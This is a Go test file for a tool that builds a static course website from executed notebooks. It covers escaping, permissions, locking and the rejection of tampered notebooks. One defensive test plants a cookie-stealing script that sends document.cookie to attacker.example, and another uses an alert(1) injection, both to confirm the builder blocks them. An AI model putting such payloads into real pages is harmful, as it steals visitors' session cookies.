package tools

import (
	"encoding/json"
	"fmt"
	"io/fs"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/descentlab/descent/internal/testenv"
)

// python returns the project's venv Python; the site builder also needs
// KaTeX in tools/site/node_modules (both from make setup).
func python(t *testing.T) string {
	t.Helper()
	root := testenv.Root(t)
	testenv.Need(t, root,
		testenv.Prereq{Path: ".venv/bin/python", Hint: "make setup"},
		testenv.Prereq{Path: "tools/site/node_modules/katex", Hint: "make setup"})
	return filepath.Join(root, ".venv", "bin", "python")
}

// notebook returns an executed notebook whose first heading is title.
func notebook(title string) []byte {
	return gonbNotebook(
		map[string]any{"cell_type": "markdown", "id": "m", "metadata": map[string]any{}, "source": "# " + title + "\n\nThe loss $f(x) = x^2$ has its minimum at $x = 0$.\n"},
		map[string]any{"cell_type": "code", "id": "c", "execution_count": 1, "metadata": map[string]any{}, "source": "%%\nfmt.Println(\"hi\")",
			"outputs": []any{map[string]any{"output_type": "stream", "name": "stdout", "text": "hi\n"}}},
	)
}

// gonbNotebook returns the JSON of a notebook of the gonb kernel (as GoNB
// writes its metadata) holding cells.
func gonbNotebook(cells ...any) []byte {
	nb := map[string]any{
		"nbformat": 4, "nbformat_minor": 5,
		"metadata": map[string]any{
			"kernelspec":    map[string]any{"display_name": "Go (gonb)", "language": "go", "name": "gonb"},
			"language_info": map[string]any{"name": "go", "pygments_lexer": "", "file_extension": ".go", "mimetype": "text/x-go"},
		},
		"cells": cells,
	}
	b, _ := json.Marshal(nb)
	return b
}

// course lays out a folder of course notebooks and one of executed copies,
// each holding the given names, and returns them with the site folder.
func course(t *testing.T, names ...string) (sources, executed, site string) {
	t.Helper()
	work := t.TempDir()
	sources, executed, site = filepath.Join(work, "notebooks"), filepath.Join(work, "executed"), filepath.Join(work, "html")
	for _, d := range []string{sources, executed} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
		for _, n := range names {
			write(t, filepath.Join(d, n+".ipynb"), notebook("Notebook "+n))
		}
	}
	return
}

func write(t *testing.T, path string, b []byte) {
	t.Helper()
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// siteCmd is the build of site from executed, publishing what sources holds,
// under the given umask.
func siteCmd(py, sources, executed, site string, umask int, extra ...string) *exec.Cmd {
	args := append([]string{"-c", fmt.Sprintf(`umask %04o && exec "$0" "$@"`, umask), py, "site/build.py", "--sources", sources}, extra...)
	return exec.Command("bash", append(args, executed, site)...)
}

func buildSite(t *testing.T, py, sources, executed, site string, extra ...string) (string, error) {
	t.Helper()
	out, err := siteCmd(py, sources, executed, site, 0o022, extra...).CombinedOutput()
	return string(out), err
}

// TestSiteBuild: a good build makes the pages, index and shared assets; a
// bad notebook or an oversized page stops the build with the file named and
// leaves the previous site exactly as it was, with no temporary folder behind.
func TestSiteBuild(t *testing.T) {
	t.Parallel()
	py := python(t)
	sources, src, dst := course(t, "00-first", "01-second")
	if out, err := buildSite(t, py, sources, src, dst); err != nil {
		t.Fatalf("build failed: %v\n%s", err, out)
	}
	for _, f := range []string{"index.html", "00-first.html", "01-second.html", "assets/katex/katex.min.css", "assets/site.css", "assets/notebook.css"} {
		if _, err := os.Stat(filepath.Join(dst, f)); err != nil {
			t.Errorf("site lacks %s", f)
		}
	}
	page, _ := os.ReadFile(filepath.Join(dst, "00-first.html"))
	for _, want := range []string{`href="01-second.html"`, `href="index.html"`, `href="assets/katex/katex.min.css"`, `class="katex"`, "hl-go"} {
		if !strings.Contains(string(page), want) {
			t.Errorf("00-first.html lacks %s", want)
		}
	}
	for _, banned := range []string{"require.js", "require.min.js", "cdnjs", "unpkg", "jsdelivr", "mathjax", "katex.min.js", "<style"} {
		if strings.Contains(strings.ToLower(string(page)), banned) {
			t.Errorf("00-first.html still holds %s", banned)
		}
	}
	before, _ := os.ReadFile(filepath.Join(dst, "index.html"))

	expectFailure := func(name, want string, env ...string) {
		t.Helper()
		cmd := siteCmd(py, sources, src, dst, 0o022)
		cmd.Env = append(os.Environ(), env...)
		outb, err := cmd.CombinedOutput()
		out := string(outb)
		if err == nil {
			t.Fatalf("%s: build succeeded", name)
		}
		if !strings.Contains(out, want) {
			t.Errorf("%s: output does not name %q:\n%s", name, want, out)
		}
		if strings.Contains(out, "Traceback") {
			t.Errorf("%s: a raw traceback instead of a message:\n%s", name, out)
		}
		after, _ := os.ReadFile(filepath.Join(dst, "index.html"))
		if string(after) != string(before) {
			t.Errorf("%s: the previous site was changed", name)
		}
		if _, err := os.Stat(filepath.Join(dst, "02-broken.html")); err == nil {
			t.Errorf("%s: a page of the failed build was left in the site", name)
		}
		left, _ := filepath.Glob(filepath.Join(filepath.Dir(dst), ".html.site-*"))
		if len(left) > 0 {
			t.Errorf("%s: temporary folders left behind: %v", name, left)
		}
	}
	expectFailure("page over budget", "page budget", "DESCENT_PAGE_BUDGET=1000")
	write(t, filepath.Join(sources, "02-broken.ipynb"), notebook("broken"))
	expectFailure("notebook without an executed copy", "no executed copy")
	write(t, filepath.Join(src, "02-broken.ipynb"), []byte(`{"cells": [`))
	expectFailure("unreadable notebook", "02-broken.ipynb")
	badTeX := []byte(strings.Replace(string(notebook("bad TeX")), `$x = 0$`, `$\\frac{1$`, 1))
	write(t, filepath.Join(sources, "02-broken.ipynb"), badTeX)
	write(t, filepath.Join(src, "02-broken.ipynb"), badTeX)
	expectFailure("formula KaTeX rejects", `02-broken.html: $\frac{1$`)
}

// TestSiteModes (issue 20 item 4): the site's files and folders are as
// readable as the umask allows, not 0700 from a temporary folder.
func TestSiteModes(t *testing.T) {
	t.Parallel()
	py := python(t)
	for _, c := range []struct {
		umask      int
		file, dirs fs.FileMode
	}{{0o022, 0o644, 0o755}, {0o027, 0o640, 0o750}} {
		sources, src, dst := course(t, "00-first")
		if out, err := siteCmd(py, sources, src, dst, c.umask).CombinedOutput(); err != nil {
			t.Fatalf("build failed: %v\n%s", err, out)
		}
		n := 0
		filepath.WalkDir(dst, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				t.Fatal(err)
			}
			fi, _ := d.Info()
			want := c.file
			if d.IsDir() {
				want = c.dirs
			}
			if fi.Mode().Perm() != want {
				t.Errorf("umask %04o: %s is %v, want %v", c.umask, p, fi.Mode().Perm(), want)
			}
			n++
			return nil
		})
		t.Logf("umask %04o: %d files and folders, all %v / %v", c.umask, n, c.file, c.dirs)
	}
}

var hrefRE = regexp.MustCompile(`<a [^>]*href="([^"]*)"`)

// TestSiteLinksEscaped (issue 20 item 5): a notebook named with '"', '<',
// '#', '?', '%' and a title with markup gets working, percent-encoded,
// HTML-escaped links in the index and the neighbours' navigation.
func TestSiteLinksEscaped(t *testing.T) {
	t.Parallel()
	py := python(t)
	odd := `01-a"b<c#d?e%f`
	sources, src, dst := course(t, "00-first", odd, "02-last")
	title := `Tricky <b>"quoted"</b> & <script>alert(1)</script>`
	for _, d := range []string{sources, src} {
		write(t, filepath.Join(d, odd+".ipynb"), notebook(title))
	}
	if out, err := buildSite(t, py, sources, src, dst); err != nil {
		t.Fatalf("build failed: %v\n%s", err, out)
	}
	if _, err := os.Stat(filepath.Join(dst, odd+".html")); err != nil {
		t.Fatalf("no page for %s: %v", odd, err)
	}
	for _, page := range []string{"index.html", "00-first.html", "02-last.html"} {
		b, err := os.ReadFile(filepath.Join(dst, page))
		if err != nil {
			t.Fatal(err)
		}
		s := string(b)
		if strings.Contains(s, "<script>alert(1)") || strings.Contains(s, "<b>\"quoted\"") {
			t.Errorf("%s: the title's markup was injected", page)
		}
		if !strings.Contains(s, "Tricky &lt;b&gt;") || !strings.Contains(s, "&lt;/b&gt; &amp; &lt;script&gt;alert(1)&lt;/script&gt;") {
			t.Errorf("%s: the title is not shown escaped", page)
		}
		found := false
		for _, m := range hrefRE.FindAllStringSubmatch(s, -1) {
			raw := strings.NewReplacer("&amp;", "&", "&quot;", `"`, "&#x27;", "'", "&lt;", "<", "&gt;", ">").Replace(m[1])
			if strings.HasPrefix(raw, "#") || strings.HasPrefix(raw, "assets/") {
				continue
			}
			u, err := url.Parse(raw)
			if err != nil || u.RawQuery != "" || u.Fragment != "" {
				t.Errorf("%s: link %q is not a plain file reference (%v)", page, m[1], err)
				continue
			}
			if _, err := os.Stat(filepath.Join(dst, u.Path)); err != nil {
				t.Errorf("%s: link %q does not resolve: %v", page, m[1], err)
			}
			found = found || u.Path == odd+".html"
		}
		if !found {
			t.Errorf("%s: no link reaches %s.html", page, odd)
		}
	}
}

// TestSiteOnlyCourseNotebooks (issue 20 item 6): an executed copy whose
// notebook was renamed or deleted is not published, and says so.
func TestSiteOnlyCourseNotebooks(t *testing.T) {
	t.Parallel()
	py := python(t)
	sources, src, dst := course(t, "00-first", "01-second")
	write(t, filepath.Join(src, "01-old-name.ipynb"), notebook("Renamed since"))
	out, err := buildSite(t, py, sources, src, dst)
	if err != nil {
		t.Fatalf("build failed: %v\n%s", err, out)
	}
	if _, err := os.Stat(filepath.Join(dst, "01-old-name.html")); err == nil {
		t.Error("the stale executed copy 01-old-name.ipynb was published")
	}
	if !strings.Contains(out, "not published") || !strings.Contains(out, "01-old-name.ipynb") {
		t.Errorf("the build does not say it left 01-old-name.ipynb out:\n%s", out)
	}
	index, _ := os.ReadFile(filepath.Join(dst, "index.html"))
	if strings.Contains(string(index), "old-name") {
		t.Error("the index links the stale page")
	}
	// A page published by an earlier build disappears once its notebook goes.
	if err := os.Remove(filepath.Join(sources, "01-second.ipynb")); err != nil {
		t.Fatal(err)
	}
	if out, err := buildSite(t, py, sources, src, dst); err != nil {
		t.Fatalf("build failed: %v\n%s", err, out)
	}
	if _, err := os.Stat(filepath.Join(dst, "01-second.html")); err == nil {
		t.Error("01-second.html survived the removal of its notebook")
	}
}

// TestSiteConcurrentBuilds (issue 20 item 7): builds of one site run one
// after the other, each succeeds, and the site folder exists at every moment.
// A build that cannot get the lock in time fails with a message naming the
// running one.
func TestSiteConcurrentBuilds(t *testing.T) {
	t.Parallel()
	py := python(t)
	sources, src, dst := course(t, "00-first", "01-second")
	if out, err := buildSite(t, py, sources, src, dst); err != nil {
		t.Fatalf("build failed: %v\n%s", err, out)
	}
	var missing, looks atomic.Int64
	stop := make(chan struct{})
	var watcher sync.WaitGroup
	watcher.Add(1)
	go func() {
		defer watcher.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			looks.Add(1)
			if _, err := os.Stat(filepath.Join(dst, "index.html")); err != nil {
				missing.Add(1)
			}
			time.Sleep(time.Millisecond)
		}
	}()
	const pairs = 2
	for i := range pairs {
		var wg sync.WaitGroup
		outs, errs := make([]string, 2), make([]error, 2)
		for j := range 2 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				b, err := siteCmd(py, sources, src, dst, 0o022).CombinedOutput()
				outs[j], errs[j] = string(b), err
			}()
		}
		wg.Wait()
		for j := range 2 {
			if errs[j] != nil {
				t.Errorf("pair %d, build %d failed: %v\n%s", i, j, errs[j], outs[j])
			}
		}
	}
	close(stop)
	watcher.Wait()
	if missing.Load() > 0 {
		t.Errorf("%s was missing in %d of %d looks during concurrent builds", dst, missing.Load(), looks.Load())
	}
	t.Logf("%d pairs of concurrent builds: all succeeded; %s looked at %d times, never missing", pairs, dst, looks.Load())

	// A build holding the lock: the next one waits, then fails clearly.
	f, err := os.OpenFile(dst+".lock", os.O_RDWR|os.O_CREATE, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := syscall.Flock(int(f.Fd()), syscall.LOCK_EX); err != nil {
		t.Fatal(err)
	}
	out, err := buildSite(t, py, sources, src, dst, "--wait", "0.5")
	if err == nil || !strings.Contains(out, "another build of") || !strings.Contains(out, "is running") || strings.Contains(out, "Traceback") {
		t.Errorf("a build blocked by another: err %v, output:\n%s", err, out)
	}
	syscall.Flock(int(f.Fd()), syscall.LOCK_UN)
	if out, err := buildSite(t, py, sources, src, dst, "--wait", "5"); err != nil {
		t.Errorf("the build after the lock was released failed: %v\n%s", err, out)
	}
}

// TestNotebookMetadata: nbmeta.py --check finds a check cell JupyterLab
// would open unfolded and GoNB's empty pygments_lexer; --fix mends both and
// nothing else; the course notebooks pass --check.
func TestNotebookMetadata(t *testing.T) {
	t.Parallel()
	py := python(t)
	dir := t.TempDir()
	var nb map[string]any
	json.Unmarshal(notebook("Meta"), &nb)
	cells := nb["cells"].([]any)
	cells[1].(map[string]any)["metadata"] = map[string]any{"tags": []string{"check"}}
	b, _ := json.Marshal(nb)
	p := filepath.Join(dir, "x.ipynb")
	write(t, p, b)
	run := func(args ...string) (string, error) {
		out, err := exec.Command(py, append([]string{"site/nbmeta.py"}, args...)...).CombinedOutput()
		return string(out), err
	}
	out, err := run("--check", p)
	if err == nil || !strings.Contains(out, "pygments_lexer is empty") || !strings.Contains(out, `cell 2 is tagged "check"`) {
		t.Errorf("--check on a notebook with both defects: %v\n%s", err, out)
	}
	if out, err := run("--fix", p); err != nil {
		t.Fatalf("--fix: %v\n%s", err, out)
	}
	if out, err := run("--check", p); err != nil {
		t.Errorf("--check after --fix: %v\n%s", err, out)
	}
	var fixed map[string]any
	fb, _ := os.ReadFile(p)
	json.Unmarshal(fb, &fixed)
	c := fixed["cells"].([]any)[1].(map[string]any)
	if c["metadata"].(map[string]any)["jupyter"].(map[string]any)["source_hidden"] != true {
		t.Error("--fix did not fold the check cell")
	}
	if joined(c["source"]) != joined(cells[1].(map[string]any)["source"]) {
		t.Error("--fix changed a cell's source")
	}
	if lx := fixed["metadata"].(map[string]any)["language_info"].(map[string]any)["pygments_lexer"]; lx != "go" {
		t.Errorf("--fix left pygments_lexer %v", lx)
	}
	course, _ := filepath.Glob(filepath.Join(testenv.Root(t), "notebooks", "*.ipynb"))
	if out, err := run(append([]string{"--check"}, course...)...); err != nil {
		t.Errorf("the course notebooks' metadata: %v\n%s", err, out)
	}
}

// joined is a cell's source, which nbformat stores as a string or a list of lines.
func joined(src any) string {
	if lines, ok := src.([]any); ok {
		var b strings.Builder
		for _, l := range lines {
			b.WriteString(l.(string))
		}
		return b.String()
	}
	s, _ := src.(string)
	return s
}

// TestSiteRendersOnlyTheInstructorsNotebooks: the site keeps a markdown
// cell's raw HTML and scripts, so it renders only executions of the course's
// own notebooks. An executed copy whose text is not its source's — a
// student's submission copied into build/notebooks, a script added to a
// markdown cell, a cell added or retyped — stops the build, naming the file,
// and publishes nothing of it (issue 28, item 7).
func TestSiteRendersOnlyTheInstructorsNotebooks(t *testing.T) {
	t.Parallel()
	py := python(t)
	sources, src, dst := course(t, "00-first")
	var nb map[string]any
	if err := json.Unmarshal(notebook("Notebook 00-first"), &nb); err != nil {
		t.Fatal(err)
	}
	cells := nb["cells"].([]any)
	markdown, code := cells[0].(map[string]any), cells[1].(map[string]any)
	with := func(cells ...any) []byte {
		c := map[string]any{}
		for k, v := range nb {
			c[k] = v
		}
		c["cells"] = cells
		b, _ := json.Marshal(c)
		return b
	}
	clone := func(cell map[string]any, key string, value any) map[string]any {
		c := map[string]any{}
		for k, v := range cell {
			c[k] = v
		}
		c[key] = value
		return c
	}
	const script = `<script>fetch("https://attacker.example/?" + document.cookie)</script>`
	for _, c := range []struct {
		name  string
		nb    []byte
		where string
	}{
		{"a script in a markdown cell", with(clone(markdown, "source", markdown["source"].(string)+script), code), "cell 0 (markdown) has other text than the course's"},
		{"a student's answer in a code cell", with(markdown, clone(code, "source", "%%\nfmt.Println(42)")), "cell 1 (code) has other text than the course's"},
		{"a cell added", with(markdown, code, clone(markdown, "source", script)), "it has 3 cells, the course's 2"},
		{"a code cell turned markdown", with(markdown, clone(clone(code, "cell_type", "markdown"), "outputs", nil)), "cell 1 is a markdown cell, the course's a code cell"},
	} {
		write(t, filepath.Join(src, "00-first.ipynb"), c.nb)
		out, err := buildSite(t, py, sources, src, dst)
		if err == nil {
			t.Errorf("%s: the site was built", c.name)
			continue
		}
		for _, want := range []string{"00-first.ipynb is not an execution of", c.where, "Trust"} {
			if !strings.Contains(out, want) {
				t.Errorf("%s: output does not say %q:\n%s", c.name, want, out)
			}
		}
		if page, err := os.ReadFile(filepath.Join(dst, "00-first.html")); err == nil && strings.Contains(string(page), "attacker.example") {
			t.Errorf("%s: the script was published", c.name)
		}
	}
}

// TestSiteFoldsExperimentCells: a code cell tagged "experiment" shows its
// code folded in a <details> and its output open; an untagged cell's code
// stays open.
func TestSiteFoldsExperimentCells(t *testing.T) {
	t.Parallel()
	py := python(t)
	sources, src, dst := course(t, "00-first")
	nb := gonbNotebook(
		map[string]any{"cell_type": "markdown", "id": "m", "metadata": map[string]any{}, "source": "# Folding\n"},
		map[string]any{"cell_type": "code", "id": "e", "execution_count": 1, "metadata": map[string]any{"tags": []string{"experiment"}},
			"source": "%%\nfmt.Println(\"plumbing\")", "outputs": []any{map[string]any{"output_type": "stream", "name": "stdout", "text": "the experiment's result\n"}}},
		map[string]any{"cell_type": "code", "id": "l", "execution_count": 2, "metadata": map[string]any{},
			"source": "%%\nfmt.Println(\"lesson\")", "outputs": []any{map[string]any{"output_type": "stream", "name": "stdout", "text": "lesson\n"}}},
	)
	for _, d := range []string{sources, src} {
		write(t, filepath.Join(d, "00-first.ipynb"), nb)
	}
	if out, err := buildSite(t, py, sources, src, dst); err != nil {
		t.Fatalf("build failed: %v\n%s", err, out)
	}
	b, _ := os.ReadFile(filepath.Join(dst, "00-first.html"))
	page := string(b)
	open, closeTag := strings.Index(page, `<details class="descent-check descent-experiment">`), strings.Index(page, "</details>")
	code, result := strings.Index(page, "plumbing"), strings.Index(page, "the experiment&#39;s result")
	if result < 0 {
		result = strings.Index(page, "the experiment's result")
	}
	if open < 0 || !(open < code && code < closeTag) {
		t.Errorf("the experiment cell's code is not inside a folded <details> (details at %d, code at %d, end at %d)", open, code, closeTag)
	}
	if result < closeTag {
		t.Errorf("the experiment cell's output is folded with its code (output at %d, </details> at %d)", result, closeTag)
	}
	if lesson := strings.Index(page, "lesson"); lesson < 0 || strings.Count(page, "<details") != 1 {
		t.Errorf("the untagged cell is folded too, or missing (%d <details>)", strings.Count(page, "<details"))
	}
}
